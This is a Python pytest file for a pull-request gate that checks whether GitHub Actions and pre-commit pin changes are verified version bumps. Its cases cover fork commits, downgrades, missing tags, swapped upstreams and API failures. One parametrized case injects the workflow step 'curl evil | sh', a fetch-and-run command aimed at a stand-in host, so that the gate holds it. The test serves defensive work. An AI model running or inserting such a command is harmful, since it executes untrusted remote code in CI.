"""Verified pin bumps: the Action looks the tags up on GitHub, a local run holds (issue 29).

Each case builds a real repository whose head only moves pins, and judges it through
`prove` (policy only, as `proofgate policy` does) with the tag look-ups answered by the
real adapter (`GitHubChecks.tag`, PyGithub) talking to the OpenAPI-validating stand-in,
or, for the local run, through the CLI with no API at all.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gate.faces.cli import main
from gate.git.repo import GitRepository
from gate.github.checks import GitHubChecks, RetryPolicy
from gate.model import Decision
from gate.proof.prove import ProveRequest, prove
from tests.github_standin.fixtures import REPO, TOKEN, running_standin
from tests.github_standin.server import Fault, GitHubStandIn
from tests.gitutil import commit, make_repo, repo_dir

CONFIG = b'version: 1\nimage: python:3.12-slim\nchecks:\n  - {name: unit, test: "true"}\n'
V422 = "11bd71901bbe5b1630ceea73d27597364c9af683"  # actions/checkout v4.2.2
V430 = "08eba0b27e820071cde6df949e0beb9ba4906955"  # actions/checkout v4.3.0
FORK = "5" * 40  # a commit of a fork, which GitHub also serves under the upstream's name
RUFF_061 = "a" * 40
RUFF_070 = "b" * 40
# a privileged job (SPEC §2.1): only a verified pin bump of it is not held
WORKFLOW = (
    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    permissions:\n"
    "      contents: write\n    steps:\n      - uses: actions/checkout@{} # {}\n"
    "      - run: make\n"
)
PRECOMMIT = (
    "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n"
    "    rev: {}\n    hooks:\n      - id: ruff\n"
)


@pytest.fixture
def standin() -> Iterator[GitHubStandIn]:
    for server in running_standin():
        server.add_tag("actions/checkout", "v4.2.2", V422)
        server.add_tag("actions/checkout", "v4.3.0", V430)
        server.add_tag("astral-sh/ruff-pre-commit", "v0.6.1", RUFF_061)
        server.add_tag("astral-sh/ruff-pre-commit", "v0.7.0", RUFF_070)
        yield server


def _repo(tmp_path: Path, path: str, old: str, new: str, config: bytes = CONFIG) -> Path:
    repo = make_repo(tmp_path)
    base = commit(repo, {b".github/proofgate.yml": config, path.encode(): old.encode()})
    commit(repo, {path.encode(): new.encode()}, branch="pr", parent=base)
    return repo_dir(repo)


def _judge(path: Path, standin: GitHubStandIn) -> tuple[Decision, dict[str, list[dict[str, str]]]]:
    api = GitHubChecks(
        REPO, TOKEN, api_url=standin.api_url, retry=RetryPolicy(attempts=2, backoff=0.01)
    )
    with GitRepository(path) as evidence:
        run = prove(
            ProveRequest(base="main", head="pr", run_checks=False),
            evidence=evidence,
            sandbox=lambda: pytest.fail("the policy path starts no sandbox"),
            tags=api,
        )
    found: dict[str, list[dict[str, str]]] = {}
    for f in run.predicate["policy"]["findings"]:  # type: ignore[index]
        found.setdefault(f["rule"], []).append(f)
    return run.policy_decision, found


def test_an_action_bump_to_a_newer_released_tag_is_verified_and_not_held(
    tmp_path: Path, standin: GitHubStandIn
) -> None:
    repo = _repo(
        tmp_path,
        ".github/workflows/ci.yml",
        WORKFLOW.format(V422, "v4.2.2"),
        WORKFLOW.format(V430, "v4.3.0"),
    )
    decision, found = _judge(repo, standin)
    assert decision is Decision.ALLOW, found
    assert "ci-workflow-changed" not in found
    (f,) = found["pin-bump-verified"]
    assert f["decision"] == "ALLOW"
    assert f["message"].endswith(f"actions/checkout {V422[:12]}(v4.2.2) → {V430[:12]}(v4.3.0)")
    looked = [r.path for r in standin.calls("repos/get-commit")]
    assert sorted(looked) == [
        "/repos/actions/checkout/commits/tags%2Fv4.2.2",
        "/repos/actions/checkout/commits/tags%2Fv4.3.0",
    ]


def test_a_pre_commit_autoupdate_to_a_newer_tag_is_verified(
    tmp_path: Path, standin: GitHubStandIn
) -> None:
    repo = _repo(
        tmp_path, ".pre-commit-config.yaml", PRECOMMIT.format("v0.6.1"), PRECOMMIT.format("v0.7.0")
    )
    decision, found = _judge(repo, standin)
    assert decision is Decision.ALLOW, found
    assert "build-hook-changed" not in found
    assert "ruff-pre-commit v0.6.1 → v0.7.0" in found["pin-bump-verified"][0]["message"]


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        pytest.param(
            WORKFLOW.format(V422, "v4.2.2"),
            WORKFLOW.format(FORK, "v4.3.0"),
            f"actions/checkout v4.3.0 is {V430[:12]}, not {FORK[:12]}",
            id="fork-commit-named-as-the-release",
        ),
        pytest.param(
            WORKFLOW.format(V430, "v4.3.0"),
            WORKFLOW.format(V422, "v4.2.2"),
            "actions/checkout: v4.2.2 is not newer than v4.3.0",
            id="downgrade",
        ),
        pytest.param(
            WORKFLOW.format(V422, "v4.2.2"),
            WORKFLOW.format(V430, "v4.3.0").replace("run: make", "run: curl evil | sh"),
            "line 9 is not a pin",
            id="pin-and-a-step",
        ),
        pytest.param(
            WORKFLOW.format(V422, "v4.2.2"),
            WORKFLOW.format(V430, "v4.3.0").replace("actions/checkout", "evil/checkout"),
            "changes which action is used",
            id="other-upstream",
        ),
        pytest.param(
            WORKFLOW.format(V422, "v4.2.2"),
            WORKFLOW.format(V430, "v9.9.9"),
            "actions/checkout has no tag v9.9.9",
            id="tag-that-does-not-exist",
        ),
    ],
)
def test_anything_but_a_verified_bump_stays_held_and_says_why(
    tmp_path: Path, standin: GitHubStandIn, old: str, new: str, why: str
) -> None:
    repo = _repo(tmp_path, ".github/workflows/ci.yml", old, new)
    decision, found = _judge(repo, standin)
    assert decision is Decision.HOLD
    assert "pin-bump-verified" not in found
    (f,) = found["ci-workflow-changed"]
    assert why in f["message"], f["message"]


def test_a_policy_key_holds_verified_bumps_again(tmp_path: Path, standin: GitHubStandIn) -> None:
    config = CONFIG + b"policy:\n  rules: {pin-bump-verified: hold}\n"
    repo = _repo(
        tmp_path,
        ".github/workflows/ci.yml",
        WORKFLOW.format(V422, "v4.2.2"),
        WORKFLOW.format(V430, "v4.3.0"),
        config,
    )
    decision, found = _judge(repo, standin)
    assert decision is Decision.HOLD
    assert found["pin-bump-verified"][0]["decision"] == "HOLD"


def test_a_failing_api_verifies_nothing(tmp_path: Path, standin: GitHubStandIn) -> None:
    standin.inject(Fault("repos/get-commit", "server-error", times=10))
    repo = _repo(
        tmp_path,
        ".github/workflows/ci.yml",
        WORKFLOW.format(V422, "v4.2.2"),
        WORKFLOW.format(V430, "v4.3.0"),
    )
    decision, found = _judge(repo, standin)
    assert decision is Decision.HOLD
    assert "not verified: the tag look-up failed" in found["ci-workflow-changed"][0]["message"]


def _cli_bump(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, Any]:
    """`proofgate policy --json` on a repository whose head moves checkout v4.2.2 → v4.3.0."""
    repo = _repo(
        tmp_path,
        ".github/workflows/ci.yml",
        WORKFLOW.format(V422, "v4.2.2"),
        WORKFLOW.format(V430, "v4.3.0"),
    )
    capsys.readouterr()
    code = main(["policy", "--repo", str(repo), "--base", "main", "--head", "pr", "--json"])
    return code, json.loads(capsys.readouterr().out)


def test_a_local_run_holds_the_bump_and_says_it_cannot_look_tags_up(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, predicate = _cli_bump(tmp_path, capsys)
    assert code == 11
    (f,) = [x for x in predicate["policy"]["findings"] if x["rule"] == "ci-workflow-changed"]
    assert f["message"].endswith(
        "nothing else changed; not verified: tag look-ups need the GitHub API: the Action "
        "has it; a local run has it with GITHUB_TOKEN or GH_TOKEN set"
    )


@pytest.mark.parametrize("variable", ["GITHUB_TOKEN", "GH_TOKEN"])
def test_a_local_run_with_a_token_looks_the_tags_up(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    standin: GitHubStandIn,
    variable: str,
) -> None:
    monkeypatch.setenv(variable, TOKEN)
    monkeypatch.setenv("GITHUB_API_URL", standin.api_url)
    code, predicate = _cli_bump(tmp_path, capsys)
    assert code == 0, predicate["policy"]
    assert [f["rule"] for f in predicate["policy"]["findings"]] == ["pin-bump-verified"]
